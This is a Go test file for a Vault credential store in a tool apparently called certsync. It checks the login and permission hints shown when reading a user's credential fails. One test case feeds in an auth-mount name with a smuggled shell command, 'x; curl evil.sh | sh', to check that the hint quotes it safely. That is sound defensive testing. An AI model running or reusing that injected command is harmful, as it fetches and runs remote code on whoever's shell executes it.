package vaultstore

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/certsync/certsync/reconcile/preflight"
)

// TestAdvice: who may not read a credential learns whose token they have, and how this Vault lets people in.
func TestAdvice(t *testing.T) {
	const path = "secret/data/certsync/prod-eu/users/alice@example.com"
	const denies = "reading secret/certsync/prod-eu/users/alice@example.com: Vault answered 403 Forbidden: permission denied"
	corporate := map[string]string{"corp/": "userpass", "oidc/": "oidc", "ci/": "jwt", "approle/": "approle"}
	of := func(name string) map[string]any {
		return map[string]any{"display_name": name, "policies": []string{"default"}, "identity_policies": []string{"certsync-prod-eu-users", "default"}}
	}
	for sentence, tt := range map[string]struct {
		owner      map[string]any
		methods    map[string]string
		token      string
		deny       []string // beside the credential
		err, hints string
	}{
		"somebody else's token": {of("jwt-bob@example.com"), corporate, goodToken, nil, denies,
			`this token belongs to "jwt-bob@example.com" (policies: certsync-prod-eu-users, default): log in to Vault as alice@example.com: vault login -method=oidc ` +
				"(this Vault also has: userpass at corp/; jwt at ci/, for --vault-auth=jwt); or check --owner and --user"},
		"their own, which has no right": {of("oidc-alice@example.com"), corporate, goodToken, nil, denies,
			`this token belongs to "oidc-alice@example.com" (policies: certsync-prod-eu-users, default), which do not allow "read" on ` + path +
				". Check --owner; if it is right, ask your certsync administrator for the policy that `certsync manifests --vault` prints"},
		"a token of their name in lower case": {of("userpass-alice@example.com"), corporate, goodToken, nil, "reading secret/certsync/prod-eu/users/Alice@example.com: Vault answered 403 Forbidden: permission denied",
			`this token belongs to "userpass-alice@example.com" (policies: certsync-prod-eu-users, default). Vault's userpass and LDAP turn names into lower case, and alice@example.com ` +
				"does not match Alice@example.com in a policy. Ask your certsync administrator to rename you in the inventory (name: alice@example.com, previously: [Alice@example.com]), or to give you a policy of your own"},
		"no token": {nil, map[string]string{"corp/": "userpass"}, "", nil, "logging in to Vault at $VAULT: there is no token",
			"log in to Vault as alice@example.com: vault login -method=userpass -path=corp"},
		"a method whose name does more in a shell": {nil, map[string]string{"x; curl evil.sh | sh/": "userpass", "a\x1b[2J/": "oidc"}, "", nil, "logging in to Vault at $VAULT: there is no token",
			`log in to Vault as alice@example.com: vault login -method=userpass '-path=x; curl evil.sh | sh' (this Vault also has: oidc at "a\x1b[2J/")`},
		"an expired one": {nil, map[string]string{"ci/": "jwt"}, goodToken + "-old", nil, denies + ", invalid token",
			"the token is unknown, expired or revoked: log in to Vault as alice@example.com with `vault login` (this Vault shows: jwt at ci/, for --vault-auth=jwt)"},
		"one that may not even look at itself": {nil, nil, goodToken, []string{"auth/token/lookup-self"}, denies,
			`the token does not allow "read" on ` + path + ": log in to Vault as alice@example.com with `vault login`; or check --owner and --user"},
	} {
		t.Run(sentence, func(t *testing.T) {
			v := newFakeVault(t)
			v.environment(t)
			t.Setenv("VAULT_TOKEN", tt.token)
			v.owner, v.methods = tt.owner, tt.methods
			v.denied = func(_, p string) bool {
				return strings.EqualFold(p, path) || strings.Contains(strings.Join(tt.deny, " "), p)
			}
			s, err := openUser(t.Context(), Options{Owner: "prod-eu"}, quick)
			if err != nil {
				t.Fatal(err)
			}
			user := "alice@example.com"
			if strings.Contains(tt.err, "/Alice@") {
				user = "Alice@example.com"
			}
			_, err = s.ReadCredential(t.Context(), user)
			if err == nil {
				t.Fatal("it was read")
			}
			got := strings.ReplaceAll(fmt.Sprintf("%v\nhint: %s", err, hintOf(err)), v.URL, "$VAULT")
			if diff := cmp.Diff(tt.err+"\nhint: "+tt.hints, got); diff != "" {
				t.Error(diff)
			}
			if strings.Contains(got, goodToken) {
				t.Error("the token is in it")
			}
		})
	}
}

// TestAuthMethods: which methods turn names into lower case is known by what Vault shows, and by an accessor.
func TestAuthMethods(t *testing.T) {
	v := newFakeVault(t)
	v.methods = map[string]string{"corp/": "userpass", "ad/": "ldap", "oidc/": "oidc", "ci/": "jwt", "approle/": "approle"}
	s := v.open(t)
	want := preflight.AuthMethods{Folding: []string{"ldap at ad/", "userpass at corp/"}, Others: true}
	if diff := cmp.Diff(want, s.AuthMethods(t.Context())); diff != "" {
		t.Error(diff)
	}
	v.methods = map[string]string{"ci/": "jwt"}
	if diff := cmp.Diff(preflight.AuthMethods{}, s.AuthMethods(t.Context())); diff != "" {
		t.Error(diff)
	}
	for accessor, want := range map[string]bool{"auth_userpass_1a2b3c4d": true, "auth_ldap_1a2b3c4d": true, "auth_oidc_1a2b3c4d": false, "auth_jwt_1a2b3c4d": false} {
		if FoldsNames(accessor) != want {
			t.Error(accessor)
		}
	}
}

// TestAdviceAfterLogin: who logged in by flags is told what to look at there.
func TestAdviceAfterLogin(t *testing.T) {
	const path = "secret/data/certsync/prod-eu/users/alice"
	for sentence, tt := range map[string]struct {
		deny map[string]bool
		want string
	}{
		"it may look at itself": {map[string]bool{path: true}, `the token from jwt at auth/jwt as role "people" belongs to "jwt-bob" (policies: default), which do not allow "read" on ` + path},
		"it may not":            {map[string]bool{path: true, "auth/token/lookup-self": true}, `the token from jwt at auth/jwt as role "people" does not allow "read" on ` + path},
	} {
		t.Run(sentence, func(t *testing.T) {
			v := newFakeVault(t)
			v.environment(t)
			v.owner = map[string]any{"display_name": "jwt-bob", "policies": []string{"default"}}
			v.denied = func(_, p string) bool { return tt.deny[p] }
			s, err := openUser(t.Context(), Options{Owner: "prod-eu", Login: Login{Method: "jwt", Role: "people", TokenFile: file(t, "a.b.c")}}, quick)
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close(t.Context())
			_, err = s.ReadCredential(t.Context(), "alice")
			if err == nil || !strings.HasPrefix(hintOf(err), tt.want) || !strings.HasSuffix(hintOf(err), askForPolicy) {
				t.Errorf("%v, hint %q", err, hintOf(err))
			}
		})
	}
}
